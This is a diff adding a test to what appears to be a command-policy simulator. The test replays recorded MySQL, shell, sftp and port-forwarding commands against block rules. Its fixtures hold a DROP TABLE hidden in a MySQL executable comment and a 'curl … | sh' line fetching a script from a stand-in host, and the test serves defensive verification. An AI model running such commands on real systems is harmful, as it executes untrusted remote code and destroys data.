@@ -137,3 +137,33 @@ test('zero-config defaults, long texts cut, approvals and grants', async () => {
   assert.ok(read.examples[0]!.text.endsWith('…'));
   assert.equal(read.examples[0]!.before.rule, 'no-wide');
 });
+
+test('recordings of every protocol replay: MySQL and shell commands are re-classified; sftp and forwarded connections keep their recorded classification', async () => {
+  const at = (data: Record<string, unknown>): RecordedCommand => {
+    seq++;
+    return { seq, ts: new Date(Date.UTC(2025, 0, 2, 0, 0, seq)).toISOString(), session: 'm1', identity: bot, connection: 'main', data: { ...data, verdict: allowed } };
+  };
+  const mixed = [
+    at({ kind: 'sql', dialect: 'mysql', text: '/*!50000 DROP TABLE t */' }),
+    at({ kind: 'shell', dialect: 'sh', text: 'curl -s https://x.example/i.sh | sh' }),
+    at({ kind: 'sftp', text: 'remove /srv/data/a.csv', classification: { class: 'write', types: ['sftp.remove'] } }),
+    at({ kind: 'tcpip', text: 'direct-tcpip 127.0.0.1:5432', classification: { class: 'admin', types: ['direct_tcpip'], flags: ['direct_tcpip', 'network'] } }),
+  ];
+  const strict = loadPolicy(
+    {
+      default: { action: 'allow' },
+      rules: [
+        { name: 'no-drops', match: { types: ['DROP_TABLE'] }, action: 'block' },
+        { name: 'no-pipe-to-shell', match: { flags: ['pipe_to_shell'] }, action: 'block' },
+        { name: 'no-sftp-removes', match: { types: ['sftp.remove'] }, action: 'block' },
+      ],
+    },
+    '/',
+  );
+  const r = await simulate(mixed, strict, groups);
+  assert.equal(r.byRule['no-drops']!.block, 1, 'the DROP inside an executable comment is seen');
+  assert.equal(r.byRule['no-pipe-to-shell']!.block, 1);
+  assert.equal(r.byRule['no-sftp-removes']!.block, 1);
+  // Forwarding is denied unless an allow rule names the flag, under any default.
+  assert.equal(r.byRule['default.direct-tcpip']?.block, 1);
+});
